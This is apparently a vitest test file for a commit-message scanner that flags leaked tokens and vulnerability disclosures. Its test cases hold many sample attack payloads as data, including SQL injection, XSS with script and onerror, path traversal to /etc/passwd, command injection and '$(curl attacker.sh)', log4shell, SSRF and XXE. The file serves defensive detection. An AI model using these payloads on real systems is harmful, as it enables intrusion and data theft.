import { describe, expect, it } from "vitest";
import {
  type DisclosureHit,
  type MessageHit,
  scanCommitMessage,
  scanMessage,
  stripCommentLines,
} from "../../src/secrets/index.js";
import { fake, j } from "./helpers.js";

function disclosures(hits: MessageHit[]): DisclosureHit[] {
  return hits.filter((h): h is DisclosureHit => h.kind === "disclosure");
}

function disclosureOf(text: string): DisclosureHit | undefined {
  const found = disclosures(scanCommitMessage(text));
  expect(found.length).toBeLessThanOrEqual(1);
  return found[0];
}

describe("secrets in commit messages", () => {
  it("reports tokens and URL passwords with their positions, redacted", () => {
    const ghp = j("gh", "p_", fake("msg-ghp", 36));
    const pw = fake("msg-pw", 12);
    const text = [
      "Add deploy script",
      "",
      `Use token ${ghp} for the bot.`,
      `Staging is at https://admin:${pw}@staging.corp.internal/`,
    ].join("\n");
    const hits = scanCommitMessage(text);
    expect(hits.map((h) => [h.kind, h.rule, h.line, h.column])).toEqual([
      ["secret", "PW-SECRET-GITHUB-TOKEN", 3, 11],
      ["secret", "PW-SECRET-DB-URL", 4, 29],
    ]);
    for (const h of hits) {
      if (h.kind !== "secret") continue;
      expect(h.redacted.includes(ghp)).toBe(false);
      expect(h.redacted.includes(pw)).toBe(false);
    }
  });

  it("reports a password line in the message body", () => {
    const [hit] = scanCommitMessage(`Rotate credentials\n\npassword: ${fake("body-pw", 20)}\n`);
    expect(hit?.rule).toBe("PW-SECRET-GENERIC");
    expect(hit?.line).toBe(3);
  });

  it("ignores git comment lines and everything after the scissors line", () => {
    const ghp = j("gh", "p_", fake("comment", 36));
    const text = [
      "Fix typo",
      `# token ${ghp}`,
      "# ' OR 1=1 -- was the exploit",
      "# ------------------------ >8 ------------------------",
      "diff --git a/x b/x",
      `+TOKEN = "${ghp}"`,
      '+payload = "<script>alert(1)</script>"',
    ].join("\n");
    expect(scanCommitMessage(text)).toEqual([]);
    expect(stripCommentLines("a\n# b\nc").split("\n")).toEqual(["a", "", "c"]);
  });
});

describe("vulnerability disclosure", () => {
  it("reports a payload with the first signal's position and every signal as evidence", () => {
    const text = [
      "Fix login query",
      "",
      "Logging in with username admin' OR 1=1 -- skipped the password check.",
      "See CVE-2024-12345.",
    ].join("\n");
    const hit = disclosureOf(text);
    expect(hit).toBeDefined();
    expect(hit!.rule).toBe("PW-MSG-VULN-DISCLOSURE");
    expect(hit!.severity).toBe("LOW");
    expect(hit!.confidence).toBe("MEDIUM");
    expect([hit!.line, hit!.column]).toEqual([3, 31]);
    expect(hit!.evidence.map((e) => [e.kind, e.line])).toEqual([
      ["payload", 3],
      ["reference", 4],
    ]);
    expect(hit!.message).toBe(
      "Commit message discloses vulnerability details: SQL injection payload (line 3). Describe the fix, not the exploit.",
    );
    // The message names the kind of payload, never the payload itself.
    expect(hit!.message.includes("OR 1=1")).toBe(false);
  });

  const positives: { name: string; text: string; confidence: "LOW" | "MEDIUM" }[] = [
    { name: "SQL tautology", text: "fix: login accepted ' or '1'='1", confidence: "MEDIUM" },
    { name: "UNION SELECT", text: "search: id=1' UNION SELECT password FROM users", confidence: "MEDIUM" },
    {
      name: "script tag",
      text: "Escape bio field (stored XSS)\n\nA bio of <script>fetch('//x')</script> ran for every visitor",
      confidence: "MEDIUM",
    },
    {
      name: "event handler",
      text: 'Sanitize avatar alt: <img src=x onerror="alert(1)">',
      confidence: "MEDIUM",
    },
    { name: "path traversal", text: "Reject ?file=../../etc/passwd in download view", confidence: "MEDIUM" },
    { name: "encoded traversal", text: "Normalize paths: ..%2f..%2fsecret was served", confidence: "MEDIUM" },
    {
      name: "command injection",
      text: "Quote host in ping helper; host=8.8.8.8; cat /etc/passwd worked",
      confidence: "MEDIUM",
    },
    {
      name: "command substitution",
      text: "Stop passing name to shell: name=$(curl attacker.sh) ran",
      confidence: "MEDIUM",
    },
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload under test.
    { name: "log4shell", text: "Strip ${jndi:ldap://x/a} lookups from headers", confidence: "MEDIUM" },
    { name: "template injection", text: "Render names as text: {{7*7}} printed 49", confidence: "MEDIUM" },
    { name: "SSRF", text: "Block SSRF: webhook URLs to 169.254.169.254", confidence: "MEDIUM" },
    {
      name: "XXE",
      text: 'Disable entities: <!ENTITY xxe SYSTEM "file:///etc/hostname">',
      confidence: "MEDIUM",
    },
    {
      name: "proof of concept",
      text: "Fix upload handler\n\nPoC: upload a .phtml file and request it",
      confidence: "MEDIUM",
    },
    {
      name: "crafted request",
      text: "Validate size: a crafted request with a negative length crashes the parser",
      confidence: "MEDIUM",
    },
    {
      name: "steps to reproduce a security bug",
      text: "Fix access check\n\nSteps to reproduce:\n1. log in as viewer\n2. open /admin/users\nThis is an IDOR vulnerability.",
      confidence: "MEDIUM",
    },
    { name: "0day", text: "Hotfix for the 0day reported privately", confidence: "MEDIUM" },
    { name: "embargo", text: "Patch session fixation (embargoed until 2025-06-01)", confidence: "MEDIUM" },
    { name: "not yet public", text: "Harden token check; advisory not yet public", confidence: "MEDIUM" },
    { name: "exploit", text: "Fix the exploit in the importer", confidence: "LOW" },
    { name: "RCE", text: "Fix RCE in upload handler", confidence: "LOW" },
    {
      name: "bypass auth",
      text: "Prevent users from bypassing authentication with an empty token",
      confidence: "LOW",
    },
    { name: "auth bypass", text: "Close auth bypass in admin API", confidence: "LOW" },
    {
      name: "attacker can",
      text: "An attacker can read other tenants' invoices; add tenant filter",
      confidence: "LOW",
    },
    {
      name: "privilege escalation",
      text: "Fix privilege escalation via role update endpoint",
      confidence: "LOW",
    },
  ];

  it.each(positives)("flags: $name", ({ text, confidence }) => {
    const hit = disclosureOf(text);
    expect(hit?.rule).toBe("PW-MSG-VULN-DISCLOSURE");
    expect(hit?.confidence).toBe(confidence);
  });

  const negatives: { name: string; text: string }[] = [
    { name: "fix note naming the class", text: "fix SQL injection in login" },
    {
      name: "fix note with detail of the fix",
      text: "Fix SQL injection in login\n\nUse a parameterised query instead of string formatting.",
    },
    { name: "CVE bump", text: "bump dependency to fix CVE-2023-1234" },
    {
      name: "CVE bump with GHSA",
      text: "deps: upgrade requests to 2.31.0 (CVE-2023-32681, GHSA-j8r2-6x86-q33q)",
    },
    { name: "XSS fix note", text: "Escape HTML in comments to prevent XSS" },
    { name: "path fix note", text: "Reject path traversal in download view" },
    {
      name: "non-security reproduction steps",
      text: "Fix crash on empty cart\n\nSteps to reproduce:\n1. open cart\n2. click pay",
    },
    {
      name: "negated exploit language",
      text: "Tighten input check (not exploitable, found by fuzzing)\n\nNo known exploit.",
    },
    { name: "relative paths", text: "Move helpers to ../../shared and update imports" },
    { name: "SQL in prose", text: "Use UNION ALL SELECT for the monthly report query" },
    { name: "shell pipeline in docs", text: "docs: install with curl -sSL https://get.example.sh | sh" },
    { name: "security words in comments only", text: "Refactor auth\n# PoC: ' OR 1=1 --\n# exploit" },
    { name: "script tag in a template change", text: "Move the analytics <script> tag to the footer" },
    { name: "cloud metadata address", text: "Read instance credentials from 169.254.169.254 on EC2" },
    { name: "command substitution in a build note", text: "release: use $(cat VERSION) in the tag name" },
    { name: "passwd in system code", text: "nss: parse /etc/passwd lines with colons in GECOS" },
    { name: "zero days", text: "Keep logs for 0 days in dev; retention is 30 days elsewhere" },
    { name: "quoted option and an em dash", text: 'Default to "strict" -- it is faster' },
    { name: "empty", text: "" },
  ];

  it.each(negatives)("does not flag: $name", ({ text }) => {
    expect(disclosureOf(text)).toBeUndefined();
  });

  it("is deterministic and position-free in its fingerprint key", () => {
    const a = disclosureOf("Fix RCE in upload handler");
    const b = disclosureOf("\n\nFix RCE in upload handler");
    expect(a?.fingerprintKey).toBe(b?.fingerprintKey);
    expect(a?.line).toBe(1);
    expect(b?.line).toBe(3);
    expect(scanMessage("Fix RCE in upload handler")).toEqual(scanMessage("Fix RCE in upload handler"));
  });

  it("sorts secrets and the disclosure hit by line, column and rule", () => {
    const ghp = j("gh", "p_", fake("mixed-msg", 36));
    const hits = scanCommitMessage(`Fix RCE\n\ntoken ${ghp}`);
    expect(hits.map((h) => [h.line, h.rule])).toEqual([
      [1, "PW-MSG-VULN-DISCLOSURE"],
      [3, "PW-SECRET-GITHUB-TOKEN"],
    ]);
  });
});
